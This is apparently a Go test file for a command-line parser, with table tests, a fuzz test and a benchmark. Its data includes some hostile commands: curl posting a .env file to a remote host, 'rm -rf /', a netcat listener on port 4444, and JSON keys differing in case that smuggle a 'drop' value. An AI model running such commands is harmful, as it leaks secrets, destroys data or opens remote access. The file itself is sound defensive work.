package action

import (
	"reflect"
	"strings"
	"testing"
)

func TestProgramName(t *testing.T) {
	for in, want := range map[string]string{
		"/usr/local/bin/python3.12": "python",
		"python3":                   "python",
		"python":                    "python",
		"pythonista":                "pythonista",
		"base64":                    "base64",
		"bzip2":                     "bzip2",
		"php8.2":                    "php",
		"nodejs":                    "node",
		"/bin/bash":                 "bash",
		"pip3":                      "pip",
	} {
		if got := ProgramName(in); got != want {
			t.Errorf("ProgramName(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestParseArgv(t *testing.T) {
	tests := []struct {
		words []string
		opts  []Option
		pos   []string
	}{
		{[]string{"python3", "-mhttp.server", "8080"}, []Option{{Name: "-m", Value: "http.server", HasValue: true}}, []string{"8080"}},
		{[]string{"python3", "-u", "-m", "http.server", "--bind", "0.0.0.0"}, []Option{{Name: "-u"}, {Name: "-m", Value: "http.server", HasValue: true}}, []string{"--bind", "0.0.0.0"}},
		{[]string{"nc", "-lvnp", "4444"}, []Option{{Name: "-l"}, {Name: "-v"}, {Name: "-n"}, {Name: "-p", Value: "4444", HasValue: true}}, nil},
		{[]string{"ssh", "-NR", "8080:localhost:3000", "h", "ls", "-l"}, []Option{{Name: "-N"}, {Name: "-R", Value: "8080:localhost:3000", HasValue: true}}, []string{"h", "ls", "-l"}},
		{[]string{"ssh", "h", "-L", "1:h:2", "-N", "ls", "-l"}, []Option{{Name: "-L", Value: "1:h:2", HasValue: true}, {Name: "-N"}}, []string{"h", "ls", "-l"}},
		{[]string{"curl", "--data", "@.env", "https://x"}, []Option{{Name: "-d", Value: "@.env", HasValue: true}}, []string{"https://x"}},
		{[]string{"lt", "--port", "8080"}, []Option{{Name: "-p", Value: "8080", HasValue: true}}, nil},
		{[]string{"rm", "--recursive", "--force", "/"}, []Option{{Name: "-r"}, {Name: "-f"}}, []string{"/"}},
		{[]string{"frob", "-rf", "--level=3", "-O2", "x", "--", "-y"}, []Option{{Name: "-r"}, {Name: "-f"}, {Name: "--level", Value: "3", HasValue: true}, {Name: "-O2"}}, []string{"x", "-y"}},
		{[]string{"find", ".", "-name", "x"}, []Option{{Name: "-name"}}, []string{".", "x"}},
	}
	for _, tt := range tests {
		a := ParseArgv(tt.words)
		if !reflect.DeepEqual(a.Options, tt.opts) || !reflect.DeepEqual(a.Positionals, tt.pos) {
			t.Errorf("ParseArgv(%q) = options %+v positionals %q, want %+v %q", tt.words, a.Options, a.Positionals, tt.opts, tt.pos)
		}
	}
}

// TestParseArgvSubcommands: options are read with the table of the
// subcommand they follow, global options before it with the program's.
func TestParseArgvSubcommands(t *testing.T) {
	type opts = []Option
	flag := func(name string) Option { return Option{Name: name} }
	val := func(name, v string) Option { return Option{Name: name, Value: v, HasValue: true} }
	tests := []struct {
		cmd  string
		opts []Option
		pos  []string
	}{
		// kubectl: -f is a file where resources are read, "follow" for logs;
		// global options are valid before and after the subcommand.
		{"kubectl apply -f x.yaml", opts{val("-f", "x.yaml")}, []string{"apply"}},
		{"kubectl apply --filename x.yaml", opts{val("-f", "x.yaml")}, []string{"apply"}},
		{"kubectl -n prod apply -f x.yaml -n dev", opts{val("-n", "prod"), val("-f", "x.yaml"), val("-n", "dev")}, []string{"apply"}},
		{"kubectl delete -k overlays/prod", opts{val("-k", "overlays/prod")}, []string{"delete"}},
		{"kubectl create -f-", opts{val("-f", "-")}, []string{"create"}},
		{"kubectl rollout status -f d.yaml", opts{val("-f", "d.yaml")}, []string{"rollout", "status"}},
		{"kubectl exec -f pod.yaml -it -- sh", opts{val("-f", "pod.yaml"), flag("-i"), flag("-t")}, []string{"exec", "sh"}},
		{"kubectl -n prod logs -f pod", opts{val("-n", "prod"), flag("-f")}, []string{"logs", "pod"}},
		{"kubectl logs -f pod -c app", opts{flag("-f"), val("-c", "app")}, []string{"logs", "pod"}},
		{"kubectl -v 6 get pods", opts{val("-v", "6")}, []string{"get", "pods"}},
		{"kubectl expose -f svc.yml --port 8080 --target-port 80", opts{val("-f", "svc.yml"), val("--port", "8080"), val("--target-port", "80")}, []string{"expose"}},
		{"kubectl logs --tail 5 -f pod", opts{val("--tail", "5"), flag("-f")}, []string{"logs", "pod"}},
		{"kubectl logs -p pod", opts{flag("-p")}, []string{"logs", "pod"}},
		{"kubectl proxy -p 8001 -n x", opts{val("-p", "8001"), val("-n", "x")}, []string{"proxy"}},
		{"kubectl proxy --port=8001", opts{val("-p", "8001")}, []string{"proxy"}},
		{"kubectl patch deploy web -p {} --type merge", opts{val("-p", "{}"), val("--type", "merge")}, []string{"patch", "deploy", "web"}},
		{"kubectl config view -o yaml", opts{val("-o", "yaml")}, []string{"config", "view"}},

		// git: -C and -c take values before the subcommand, and are flags
		// in the log and diff family, blame, grep and branch.
		{"git -C /r log -C", opts{val("-C", "/r"), flag("-C")}, []string{"log"}},
		{"git -C /r push origin main", opts{val("-C", "/r")}, []string{"push", "origin", "main"}},
		{"git -c user.name=x diff -c HEAD", opts{val("-c", "user.name=x"), flag("-c")}, []string{"diff", "HEAD"}},
		{"git log -C50% -M -c main", opts{val("-C", "50%"), flag("-M"), flag("-c")}, []string{"log", "main"}},
		{"git log -n 5 --author alice -S needle", opts{val("-n", "5"), val("--author", "alice"), val("-S", "needle")}, []string{"log"}},
		{"git show -C HEAD", opts{flag("-C")}, []string{"show", "HEAD"}},
		{"git blame -C -C -L 1,9 f.go", opts{flag("-C"), flag("-C"), val("-L", "1,9")}, []string{"blame", "f.go"}},
		{"git grep -c needle", opts{flag("-c")}, []string{"grep", "needle"}},
		{"git grep -C 3 -e needle", opts{val("-C", "3"), val("-e", "needle")}, []string{"grep"}},
		{"git branch -c old new", opts{flag("-c")}, []string{"branch", "old", "new"}},
		{"git shortlog -c -n -w80", opts{flag("-c"), flag("-n"), val("-w", "80")}, []string{"shortlog"}},
		// Subcommands without a table keep the global one, right for these.
		{"git clone -c http.proxy=p url", opts{val("-c", "http.proxy=p")}, []string{"clone", "url"}},
		{"git commit -C HEAD", opts{val("-C", "HEAD")}, []string{"commit"}},

		// docker and podman.
		{"docker -H tcp://x ps -l", opts{val("-H", "tcp://x"), flag("-l")}, []string{"ps"}},
		{"docker -l debug ps -a -n 5 -f status=exited", opts{val("-l", "debug"), flag("-a"), val("-n", "5"), val("-f", "status=exited")}, []string{"ps"}},
		{"docker logs -f web", opts{flag("-f")}, []string{"logs", "web"}},
		{"docker logs -n 10 --follow web", opts{val("-n", "10"), flag("-f")}, []string{"logs", "web"}},
		{"podman logs -n -f web", opts{flag("-n"), flag("-f")}, []string{"logs", "web"}},
		{"podman ps -l", opts{flag("-l")}, []string{"ps"}},
		{"docker run -l app=x -d nginx", opts{val("-l", "app=x"), flag("-d")}, []string{"run", "nginx"}},
		{"docker run -it --rm -p 80:80 --name web ubuntu ls -la", opts{flag("-i"), flag("-t"), {Name: "--rm"}, val("-p", "80:80"), val("--name", "web")},
			[]string{"run", "ubuntu", "ls", "-la"}},
		{"docker run --publish=8080:80 img --port 1", opts{val("-p", "8080:80")}, []string{"run", "img", "--port", "1"}},
		{"docker container run -c 512 alpine sh -c id", opts{val("-c", "512")}, []string{"container", "run", "alpine", "sh", "-c", "id"}},
		{"docker exec -e A=1 -w /app -u root web sh -c 'ls -l'", opts{val("-e", "A=1"), val("-w", "/app"), val("-u", "root")},
			[]string{"exec", "web", "sh", "-c", "'ls", "-l'"}},
		{"docker build -f Dockerfile.dev -t app:1 .", opts{val("-f", "Dockerfile.dev"), val("-t", "app:1")}, []string{"build", "."}},
		{"docker buildx build --push -t app .", opts{{Name: "--push"}, val("-t", "app")}, []string{"buildx", "build", "."}},
		{"docker rm -v web", opts{flag("-v")}, []string{"rm", "web"}},
		{"docker inspect -f {{.Id}} web", opts{val("-f", "{{.Id}}")}, []string{"inspect", "web"}},
		{"docker login -u me -p pw registry", opts{val("-u", "me"), val("-p", "pw")}, []string{"login", "registry"}},
		{"docker compose -f dev.yml up -d", opts{val("-f", "dev.yml"), flag("-d")}, []string{"compose", "up"}},
		{"docker compose -p x rm -f web", opts{val("-p", "x"), flag("-f")}, []string{"compose", "rm", "web"}},
		{"docker compose logs -f -n 5 web", opts{flag("-f"), val("-n", "5")}, []string{"compose", "logs", "web"}},
		{"docker compose run -p 8080:80 web python app.py -p 1", opts{val("-p", "8080:80")}, []string{"compose", "run", "web", "python", "app.py", "-p", "1"}},

		// git push: long and short spellings are one option.
		{"git push --force origin main", opts{flag("-f")}, []string{"push", "origin", "main"}},
		{"git push -u -o ci.skip origin", opts{flag("-u"), val("-o", "ci.skip")}, []string{"push", "origin"}},
		{"git push --receive-pack /x origin", opts{val("--receive-pack", "/x")}, []string{"push", "origin"}},

		// Interpreters: php -n is a flag; perl's -l and -0 take only
		// attached digits and the cluster goes on; -x, -i take only an
		// attached value.
		{"php -n -S 0.0.0.0:80", opts{flag("-n"), val("-S", "0.0.0.0:80")}, nil},
		{"perl -le print", opts{flag("-l"), val("-e", "print")}, nil},
		{"perl -l0 -ne 1 f", opts{val("-l", "0"), flag("-n"), val("-e", "1")}, []string{"f"}},
		{"perl -0777 -pi.bak -e s/a/b/ f", opts{val("-0", "777"), flag("-p"), val("-i", ".bak"), val("-e", "s/a/b/")}, []string{"f"}},
		{"perl -x -e 1", opts{flag("-x"), val("-e", "1")}, nil},
		{"perl -I lib -e 1", opts{val("-I", "lib"), val("-e", "1")}, nil},
		{"ruby -x -e 1", opts{flag("-x"), val("-e", "1")}, nil},
		{"ruby -W0 -rsocket -e 1", opts{val("-W", "0"), val("-r", "socket"), val("-e", "1")}, nil},

		// make: -j and -l take a number, if one follows.
		{"make -C dir -j build", opts{val("-C", "dir"), flag("-j")}, []string{"build"}},
		{"make -j 4 test", opts{val("-j", "4")}, []string{"test"}},
		{"make -j4", opts{val("-j", "4")}, nil},
		{"make -kj8 all", opts{flag("-k"), val("-j", "8")}, []string{"all"}},
		{"make -l 2.5 -j build", opts{val("-l", "2.5"), flag("-j")}, []string{"build"}},
		{"make --jobs 4 all", opts{val("-j", "4")}, []string{"all"}},
		{"make --jobs all", opts{flag("-j")}, []string{"all"}},
		{"make --jobs=all", opts{val("-j", "all")}, nil},
		{"make -j", opts{flag("-j")}, nil},
		{"make -Otarget -O build", opts{val("-O", "target"), flag("-O")}, []string{"build"}},
		{"make -f x.mk -j 2.5.1", opts{val("-f", "x.mk"), flag("-j")}, []string{"2.5.1"}},

		// helm's -f is a values file wherever it exists.
		{"helm -n x install -f v.yaml rel chart", opts{val("-n", "x"), val("-f", "v.yaml")}, []string{"install", "rel", "chart"}},
	}
	for _, tt := range tests {
		a := ParseArgv(strings.Fields(tt.cmd))
		if !reflect.DeepEqual(a.Options, tt.opts) || !reflect.DeepEqual(a.Positionals, tt.pos) {
			t.Errorf("ParseArgv(%q) = options %+v positionals %q, want %+v %q", tt.cmd, a.Options, a.Positionals, tt.opts, tt.pos)
		}
	}
}

// TestOptionSpecTables checks the tables for contradictions: a letter with
// two kinds of value, a terminator that takes no value, a subcommand key
// that could never be a positional.
func TestOptionSpecTables(t *testing.T) {
	var check func(path string, s OptionSpec)
	check = func(path string, s OptionSpec) {
		kinds := map[byte]int{}
		for _, set := range []string{s.Values, s.OptionalNumbers, s.AttachedValues} {
			for i := 0; i < len(set); i++ {
				kinds[set[i]]++
			}
		}
		for c, n := range kinds {
			if n > 1 {
				t.Errorf("%s: -%c has %d kinds of value", path, c, n)
			}
		}
		for i := 0; i < len(s.Terminators); i++ {
			if !strings.ContainsRune(s.Values, rune(s.Terminators[i])) {
				t.Errorf("%s: terminator -%c takes no value", path, s.Terminators[i])
			}
		}
		for name, sub := range s.Subcommands {
			if name == "" || name[0] == '-' {
				t.Errorf("%s: subcommand key %q", path, name)
			}
			check(path+" "+name, sub)
		}
	}
	for prog, s := range optionSpecs {
		check(prog, s)
	}
}

// FuzzParseArgv: ParseArgv never panics, keeps the positionals in the
// order written, names every option with a dash, and reads words without
// a dash as positionals whatever the program's tables say.
//
//	go test ./action -run=- -fuzz=FuzzParseArgv -fuzztime=20s
func FuzzParseArgv(f *testing.F) {
	for _, seed := range []string{
		"kubectl -n prod apply -f x.yaml",
		"kubectl logs -f pod",
		"git -C /r log -C50% -c -n 5",
		"docker -H tcp://x run -it --rm -p 80:80 img sh -c id",
		"docker compose -f a.yml run -p 1:1 web ls -l",
		"docker container exec -u 0 web -- ls",
		"make -kj 4 -l 2.5 --jobs all -Otarget",
		"python3 -mhttp.server 8080",
		"ssh h -L 1:h:2 -N ls -l",
		"nc -lvnp 4444",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, command string) {
		words := strings.Split(command, " ")
		a := ParseArgv(words)
		if a.Program != ProgramName(words[0]) {
			t.Fatalf("program %q for %q", a.Program, words[0])
		}
		k := 1
		for _, p := range a.Positionals {
			for k < len(words) && words[k] != p {
				k++
			}
			if k == len(words) {
				t.Fatalf("positionals %q are not in the order of %q", a.Positionals, words)
			}
			k++
		}
		for _, o := range a.Options {
			if !strings.HasPrefix(o.Name, "-") || (!o.HasValue && o.Value != "") {
				t.Fatalf("option %+v from %q", o, words)
			}
		}
		if !strings.Contains(strings.Join(words[1:], " "), "-") && !reflect.DeepEqual(a.Positionals, nonEmpty(words[1:])) {
			t.Fatalf("words without a dash %q read as %+v %q", words, a.Options, a.Positionals)
		}
	})
}

func nonEmpty(ws []string) []string {
	if len(ws) == 0 {
		return nil
	}
	return ws
}

func BenchmarkParseArgv(b *testing.B) {
	words := strings.Fields("docker -H tcp://x run -it --rm -p 8080:80 -e A=1 --name web nginx:alpine sh -c id")
	for b.Loop() {
		ParseArgv(words)
	}
}

func TestKeysDifferingInCase(t *testing.T) {
	tests := []struct {
		v    any
		a, b string
		want bool
	}{
		{map[string]any{"sql": "select 1", "SQL": "drop"}, "SQL", "sql", true},
		{map[string]any{"filePath": "a", "opts": map[string]any{"x": 1, "X": 2}}, "X", "x", true},
		{map[string]any{"list": []any{map[string]any{"Id": 1, "id": 2}}}, "Id", "id", true},
		{map[string]any{"sql": "select 1", "limit": 3}, "", "", false},
		// Unicode folding, as encoding/json reads keys: long s, Kelvin sign.
		{map[string]any{"sql": "select 1", "ſql": "drop"}, "sql", "ſql", true},
		{map[string]any{"key": 1, "\u212aey": 2}, "key", "\u212aey", true},
		{"not an object", "", "", false},
	}
	for _, tt := range tests {
		a, b, got := KeysDifferingInCase(tt.v)
		if got != tt.want || a != tt.a || b != tt.b {
			t.Errorf("KeysDifferingInCase(%v) = %q, %q, %v; want %q, %q, %v", tt.v, a, b, got, tt.a, tt.b, tt.want)
		}
	}
}
